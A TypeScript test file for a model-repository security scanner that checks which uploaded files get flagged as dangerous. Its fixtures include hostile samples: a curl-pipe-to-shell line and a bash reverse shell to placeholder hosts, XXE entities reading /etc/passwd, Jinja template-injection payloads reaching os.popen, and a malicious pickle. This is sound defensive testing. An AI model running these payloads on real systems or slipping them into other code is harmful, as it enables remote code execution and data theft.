import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { callPickle, op, pickle, plainPickle } from '../../../testing/forge/pickle.ts';
import { forgeTar } from '../../../testing/forge/tar.ts';
import { forgeZip } from '../../../testing/forge/zip.ts';
import { hdf5Fixture } from '../../../testing/hdf5/fixtures.ts';
import { inspectTree } from '../inspect-tree.ts';
import { memoryFolder, memoryTree } from '../source.ts';

const bytes = (...parts: (string | number[])[]): Uint8Array =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'utf8') : Buffer.from(part))));

const severe = async (tree: ReturnType<typeof memoryTree>): Promise<string[]> => {
  const { inspection } = await inspectTree(tree);
  return inspection.findings
    .filter(({ severity }) => severity === 'high' || severity === 'critical')
    .map(({ code }) => code);
};

const config = (template: string): string => JSON.stringify({ tokenizer_class: 'T', chat_template: template });
const notebook = (source: string | string[]): string =>
  JSON.stringify({ nbformat: 4, cells: [{ cell_type: 'code', source }] });

/** Each is a file that is no model, or holds code: what must be said of it. */
const hostile: readonly (readonly [name: string, content: Uint8Array, code: string])[] = [
  ['lib.so', bytes([0x7f], 'ELF', [2, 1, 1, 0, 0, 0, 0, 0]), 'file.program'],
  ['tool.bin', bytes('MZ', [0x90, 0, 3, 0, 0, 0]), 'file.program'],
  ['model.llamafile', bytes("MZqFpD='\n", [0, 1, 2, 3]), 'file.program'],
  ['a.dylib', bytes([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1]), 'file.program'],
  ['Evil.class', bytes([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 0x34]), 'file.program'],
  ['model.7z', bytes([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4]), 'file.opaque_archive'],
  ['model.rar', bytes('Rar!', [0x1a, 7, 1, 0]), 'file.opaque_archive'],
  ['model.rds', bytes('X\n', [0, 0, 0, 3, 0, 4, 1, 0]), 'file.runs_code'],
  ['model.rda', bytes('RDX3\nX\n', [0, 0, 0, 3]), 'file.runs_code'],
  ['run.sh', bytes('#!/bin/sh\ncurl http://example.invalid/x | sh\n'), 'code.dangerous_call'],
  ['reverse.sh', bytes('bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n'), 'code.dangerous_call'],
  ['setup.bat', bytes('powershell -nop -enc SQBFAFgA\r\n'), 'code.dangerous_call'],
  [
    'modeling.py',
    bytes('import os\nclass Model:\n  def __init__(self):\n    os.system("id")\n'),
    'code.dangerous_call',
  ],
  ['handler.py', bytes('from subprocess import Popen\nPopen(["id"])\n'), 'code.dangerous_call'],
  ['loader.py', bytes('import base64\nexec(base64.b64decode("aWQ="))\n'), 'code.dangerous_call'],
  ['x.py', bytes('getattr(__import__("os"), "sys" + "tem")("id")\n'), 'code.dangerous_call'],
  ['train.ipynb', bytes(notebook(['import os\n', "os.system('id')\n"])), 'code.dangerous_call'],
  ['shell.ipynb', bytes(notebook('%%bash\ncurl http://example.invalid | bash')), 'code.dangerous_call'],
  [
    'model.pmml',
    bytes('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML>&x;</PMML>'),
    'xml.entity',
  ],
  ['remote.pmml', bytes('<!DOCTYPE PMML SYSTEM "http://example.invalid/a.dtd"><PMML/>'), 'xml.entity'],
  [
    'laughs.xml',
    bytes('<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "x"><!ENTITY b "&a;&a;&a;">]><l>&b;</l>'),
    'xml.entity',
  ],
  ['script.pmml', bytes('<PMML><Extension name="x">Runtime.getRuntime().exec("id")</Extension></PMML>'), 'xml.script'],
  ...[
    "{{ ''.__class__.__mro__[1].__subclasses__()[40]('/etc/passwd').read() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ request['application']['\\x5f\\x5fglobals\\x5f\\x5f'] }}",
    "{{ ''|attr('__class__')|attr('__mro__') }}",
    "{% set x = joiner.__init__.__globals__ %}{{ x.os.system('id') }}",
    "{{ getattr('', 'x') }}",
    "{{ (config|attr('a'))('os').popen('id') }}",
  ].map((template, at) => [`template${at}.json`, bytes(config(template)), 'template.injection'] as const),
  [
    'other_key.json',
    bytes(JSON.stringify({ chat_template: 'hi', custom: "{{ self.__init__.__globals__['os'] }}" })),
    'template.injection',
  ],
  [
    'chat.jinja',
    bytes('{% for m in messages %}{{ m.content }}{% endfor %}{{ cycler.__init__.__globals__ }}'),
    'template.injection',
  ],
  [
    'config.yaml',
    bytes("name: m\nchat_template: \"{{ config.__class__.__init__.__globals__['os'].system('id') }}\"\n"),
    'template.injection',
  ],
];

/** What genuine folders hold beside their models. */
const harmless: readonly (readonly [name: string, content: Uint8Array])[] = [
  [
    'modeling_x.py',
    bytes(
      'import torch\n# exec() is not used\nclass M(torch.nn.Module):\n  def f(self):\n    self.eval()\n    return torch.compile(self)\n',
    ),
  ],
  ['train.sh', bytes('#!/bin/bash\nset -e\npython train.py --epochs 3\n')],
  ['chat.jinja', bytes("{% for m in messages %}{{ m['role'].title() + ': ' + m['content'] | trim }}{% endfor %}")],
  ['notebook.ipynb', bytes(notebook(['import torch\n', 'model.eval()\n', '!pip install torch\n']))],
  ['model.xml', bytes('<?xml version="1.0"?>\n<net name="x" version="11"><layers/></net>')],
  ['page.html', bytes('<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://www.w3.org/x.dtd"><html></html>')],
  [
    'draw.svg',
    bytes('<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C" "x" [<!ENTITY ns "http://www.w3.org/2000/svg">]><svg/>'),
  ],
  ['weights.bin', bytes('MZ', [0x12, 0x34, 0, 1, 2, 3, 200, 201])],
  ['README.md', bytes('# Model\nUse `{{ bos_token }}` and `$\\mathbf{{x}}$`. See os.system docs.\n')],
  ['vocab.json', bytes(JSON.stringify({ '{{': 1, '{%': 2, __init__: 3, 'eval(': 4 }))],
  ['generation_config.json', bytes('{"temperature": 0.7}')],
];

describe('files that no reader knows', () => {
  it.each(hostile)('%s is dangerous, alone and in a folder', async (name, content, code) => {
    expect(await severe(memoryTree(name, content))).toContain(code);
    const beside = { 'config.json': bytes('{"model_type":"bert","architectures":["B"]}'), [`sub/${name}`]: content };
    expect(await severe(memoryFolder('m', beside))).toContain(code);
  });

  it.each(harmless)('%s raises no alarm in a folder', async (name, content) => {
    const beside = { 'config.json': bytes('{"model_type":"bert","architectures":["B"]}'), [name]: content };
    expect(await severe(memoryFolder('m', beside))).toEqual([]);
  });
});

describe('Keras configurations', () => {
  const layer = (given: object): string =>
    JSON.stringify({
      class_name: 'Sequential',
      config: { name: 's', layers: [given] },
      module: 'keras',
      keras_version: '3.0.0',
    });
  it.each([
    [
      'a module of its own',
      { module: 'evil_package', class_name: 'Layer', config: {}, registered_name: null },
      'keras.custom_module',
    ],
    [
      'a module of Python',
      { module: 'os', class_name: 'function', config: 'remove', registered_name: 'remove' },
      'keras.dangerous_module',
    ],
    [
      'a Lambda',
      {
        module: 'keras.layers',
        class_name: 'Lambda',
        config: { function: { class_name: '__lambda__', config: { code: '4wEA' } } },
      },
      'keras.lambda',
    ],
    [
      'a Lambda as Keras 2 writes it',
      { class_name: 'Lambda', config: { function: ['4wEA', null, null], function_type: 'lambda' } },
      'keras.lambda',
    ],
    [
      'a Lambda in another layer',
      {
        class_name: 'TimeDistributed',
        config: { layer: { class_name: 'Lambda', config: { function: ['4wEA', null, null] } } },
      },
      'keras.lambda',
    ],
  ])('%s is dangerous', async (_, given, code) => {
    expect(await severe(memoryTree('m.json', bytes(layer(given))))).toContain(code);
  });
});

describe('what is packed or hidden', () => {
  const evil = callPickle('os', 'system', 'id');
  it.each([
    ['a pickle in a tar in a gzip', gzipSync(forgeTar('m.pkl', evil)), 'pickle.dangerous_callable'],
    ['a program in a gzip', gzipSync(bytes([0x7f], 'ELF', [2, 1, 1, 0, 0, 0, 0, 0])), 'file.program'],
    ['a gzip in a gzip', gzipSync(gzipSync(evil)), 'archive.nesting'],
    ['data of R in a gzip', gzipSync(bytes('RDX3\nX\n', [0, 0, 0, 3])), 'file.runs_code'],
    [
      'code in a zip',
      forgeZip({ members: [{ name: 'h.py', content: 'import os\nos.system("id")\n' }] }),
      'code.dangerous_call',
    ],
    ['a dataset in another file', hdf5Fixture('external.h5'), 'hdf5.external_data'],
    ['a pickle behind line ends', pickle(plainPickle(), '\n'.repeat(20), evil), 'pickle.hidden'],
    ['a pickle behind other bytes', pickle(plainPickle(), op.none, 'abc', evil), 'pickle.hidden'],
  ])('%s is found', async (_, content, code) => {
    expect(await severe(memoryTree('model.bin', content))).toContain(code);
  });
});
